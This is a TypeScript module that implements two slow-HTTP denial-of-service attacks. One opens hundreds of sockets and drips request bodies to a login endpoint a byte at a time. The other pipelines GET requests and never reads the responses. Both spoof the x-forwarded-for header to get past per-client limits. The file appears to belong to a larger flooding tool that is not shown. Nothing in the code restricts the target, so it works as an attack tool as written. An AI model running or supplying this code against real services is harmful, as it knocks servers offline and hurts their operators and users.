import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import type { Attacked } from './attacks.ts'
import { addressOf, type Flooded } from './flood.ts'

const dripEveryMs = 500

/** Commands whose bytes are sent one by one, slowly. */
export async function slowBodies({ url, endsAtMs }: Attacked): Promise<Flooded> {
  const sockets = opened(url, 300, (host, number) =>
    [
      'POST /pe/persian/auth/login HTTP/1.1',
      `host: ${host}`,
      `origin: ${url}`,
      `x-forwarded-for: ${addressOf(number)}`,
      'content-type: application/json',
      'content-length: 100000',
      '',
      '{',
    ].join('\r\n'),
  )
  while (performance.now() < endsAtMs) {
    await wait(dripEveryMs)
    for (const socket of sockets) if (socket.writable) socket.write(' ')
  }
  return ended(sockets)
}

/** Requests for large answers that are never read. */
export async function slowReaders({ url, endsAtMs }: Attacked): Promise<Flooded> {
  const sockets = opened(url, 200, (host, number) =>
    ['GET / HTTP/1.1', `host: ${host}`, `x-forwarded-for: ${addressOf(number)}`, '', '']
      .join('\r\n')
      .repeat(20),
  )
  for (const socket of sockets) socket.pause()
  await wait(Math.max(0, endsAtMs - performance.now()))
  return ended(sockets)
}

function opened(url: string, count: number, head: (host: string, number: number) => string): Socket[] {
  const { hostname, port, host } = new URL(url)
  return Array.from({ length: count }, (_, number) => {
    const socket = connect({ host: hostname, port: Number(port) })
    socket.on('error', () => {})
    socket.write(head(host, number))
    return socket
  })
}

function ended(sockets: readonly Socket[]): Flooded {
  const open = sockets.filter((socket) => !socket.closed).length
  for (const socket of sockets) socket.destroy()
  return { requests: sockets.length, statuses: { open, closed: sockets.length - open } }
}
